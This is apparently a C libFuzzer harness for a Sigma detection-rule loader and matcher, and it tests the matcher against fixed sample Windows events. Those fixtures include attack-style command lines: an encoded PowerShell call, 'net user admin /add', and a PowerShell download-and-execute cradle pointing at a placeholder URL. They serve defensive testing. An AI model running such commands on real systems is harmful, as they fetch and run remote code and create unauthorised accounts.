/*
** fuzz_sigma.c -- libFuzzer target for the Sigma rule loader and matcher.
**
** Loads the input as a Sigma rule file from memory (all documents), compiles
** the ruleset and matches it against a few fixed events (Sysmon process
** creation, Security 4688, a PowerShell script block), so the YAML walk,
** the modifier and condition compilers, the literal prefilter and the
** evaluators see hostile rules.  The same bytes are also read as evtx_dump
** JSON events (lib/logs/sigma_jsonevent.c) and matched.  Seeds live in
** fuzz/corpus/sigma/; replayed without libFuzzer by replay_fuzz_sigma.
*/
#include <stddef.h>
#include <stdint.h>
#include <string.h>
#include "../lib/base/arena.h"
#include "../lib/logs/sigma.h"

static int on_hit(void *ud, const tells_sigma_hit *m) {
  (void)m;
  (*(int *)ud)++;
  return 0;
}

#define F(n, v) {n, v, sizeof(n) - 1, sizeof(v) - 1}

static const tells_sigma_field k_pc[] = {
  F("Image", "C:\\Windows\\System32\\cmd.exe"),
  F("CommandLine", "cmd.exe /c whoami -all & powershell -enc SQBFAFgA"),
  F("ParentImage", "C:\\Windows\\explorer.exe"),
  F("User", "HOST\\alice"),
  F("DestinationIp", "10.1.2.3"),
  F("SourceIp", "fe80::1"),
  F("Size", "4096"),
  F("Empty", ""),
};
static const tells_sigma_field k_4688[] = {
  F("NewProcessName", "C:\\Windows\\System32\\net.exe"),
  F("ParentProcessName", "C:\\Windows\\System32\\cmd.exe"),
  F("CommandLine", "net user admin /add"),
  F("SubjectUserName", "bob"),
};
static const tells_sigma_field k_ps[] = {
  F("ScriptBlockText", "IEX (New-Object Net.WebClient).DownloadString('http://x')"),
};

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size) {
  tells_sigma_ruleset *s = NULL;
  tells_sigma_event ev[3];
  tells_arena a;
  size_t off = 0;
  int hits = 0, i, n = 0;
  if (tells_sigma_ruleset_create(&s) != TELLS_OK) return 0;
  tells_sigma_load_mem(s, "fuzz.yml", (const char *)data, size, NULL, NULL, NULL);
  if (tells_sigma_compile(s, NULL, NULL) != TELLS_OK) {
    tells_sigma_ruleset_destroy(s);
    return 0;
  }
  memset(ev, 0, sizeof ev);
  ev[0].channel = "Microsoft-Windows-Sysmon/Operational"; ev[0].event_id = 1;
  ev[0].fields = k_pc; ev[0].n_fields = sizeof k_pc / sizeof k_pc[0];
  ev[1].channel = "Security"; ev[1].event_id = 4688;
  ev[1].fields = k_4688; ev[1].n_fields = sizeof k_4688 / sizeof k_4688[0];
  ev[2].channel = "Microsoft-Windows-PowerShell/Operational"; ev[2].event_id = 4104;
  ev[2].fields = k_ps; ev[2].n_fields = 1;
  for (i = 0; i < 3; i++) {
    ev[i].time_ns = (int64_t)i * 1000000000;
    tells_sigma_match(s, &ev[i], on_hit, &hits);
  }
  /* the same bytes as evtx_dump JSON */
  tells_arena_init(&a, 64u << 20);
  while (n++ < 10000) {
    tells_sigma_event je;
    int rc = tells_sigma_json_next((const char *)data, size, &off, &a, &je);
    if (rc == 0) break;
    if (rc < 0) { if (off >= size) break; continue; }
    tells_sigma_match(s, &je, on_hit, &hits);
  }
  tells_arena_free(&a);
  tells_sigma_ruleset_destroy(s);
  return 0;
}
